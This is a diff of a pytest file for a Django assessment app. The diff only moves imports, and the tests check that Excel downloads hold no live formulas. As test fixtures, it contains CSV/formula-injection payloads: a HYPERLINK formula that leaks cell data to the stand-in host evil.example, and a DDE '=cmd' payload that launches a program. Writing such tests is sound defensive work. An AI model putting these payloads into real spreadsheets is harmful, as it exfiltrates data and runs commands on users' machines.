@@ -15,7 +15,7 @@ import pytest
 
 from chiso import engine
 from chiso.assessments import excel
-from chiso.safe_cells import cell_text
+from chiso.lib.safe_cells import cell_text
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
 
@@ -58,7 +58,7 @@ def texts(content: bytes) -> set[str]:
 
 
 def test_a_framework_title_like_a_formula_is_text_in_the_values_template():
-    from chiso.uploads import workbook_bytes
+    from chiso.lib.uploads import workbook_bytes
 
     framework = hostile_framework()
     rows = [excel.UnitFigures("-14758", "=cmd|' /C calc'!A0", {"hs_tt": 5})]
@@ -81,7 +81,7 @@ def test_the_criteria_workbook_download_has_no_live_formula(login, tuan, client)
 
     from django.conf import settings
 
-    from chiso.frameworks.services import store_framework
+    from chiso.assessments.services import store_framework
 
     text = (Path(settings.BASE_DIR) / "tests" / "fixtures" / "mini-commune.yaml").read_text()
     text = text.replace('"Bộ tiêu chí thử nghiệm cấp xã"', "'=1+2'")
